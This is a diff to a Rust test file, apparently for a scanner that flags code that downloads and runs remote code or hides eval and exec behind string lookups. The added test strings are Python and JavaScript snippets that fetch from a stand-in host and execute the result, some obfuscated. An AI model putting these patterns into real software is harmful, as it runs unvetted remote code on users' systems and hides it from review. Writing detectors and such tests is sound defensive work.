@@ -25,6 +25,7 @@ fn what_is_downloaded_and_run_is_critical() {
             "import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('https://h.example') as r:\n            exec(await r.text())",
             "import requests, importlib.util\nexec(requests.get('https://h.example').json()['code'])",
             "import requests, subprocess\nsubprocess.run(['bash'], input=requests.get('https://h.example').content)",
+            "import urllib.request, sys\nsys.path.insert(0, '/tmp/c')\nurllib.request.urlretrieve('https://h.example/p.py', '/tmp/c/plugin.py')\nimport plugin",
             "import requests\nclass Loader:\n    def __init__(self):\n        self.code = requests.get('https://h.example').text\n    def run(self):\n        exec(self.code)\nLoader().run()",
         ],
     );
@@ -40,6 +41,8 @@ fn what_is_downloaded_and_run_is_critical() {
             "const { exec: run } = require('child_process'); const got = require('got'); (async () => { const { body } = await got('https://h.example/c'); run(body); })();",
             "import vm from 'node:vm'; const s = await (await fetch(u)).text(); vm.runInThisContext(s);",
             "const m = await import('https://h.example/mod.mjs');",
+            "fetch('https://h.example').then(r => r.text()).then(eval)",
+            "const f = 'constructor'; const run = [][f][f]; fetch('https://h.example').then(r => r.text()).then(t => run(t)());",
             "const cp = require('child_process'), fs = require('fs'); const r = await fetch('https://h.example/x'); fs.writeFileSync('/tmp/x', Buffer.from(await r.arrayBuffer())); fs.chmodSync('/tmp/x', 0o755); cp.execFileSync('/tmp/x');",
             "async function load() { const res = await fetch(base); return res.text(); }\nasync function main() { const code = await load(); return Function(code)(); }",
         ],
@@ -137,6 +140,7 @@ fn a_function_that_is_looked_up_by_a_string_is_hidden() {
         &[
             "globalThis['ev' + 'al'](x)",
             "window['eval'](x)",
+            "Function('return this')()['ev' + 'al'](x)",
             "require('child_' + 'process')['ex' + 'ec']('id')",
             "const k = ['ex', 'ec'].join(''); require('child_process')[k]('id')",
         ],
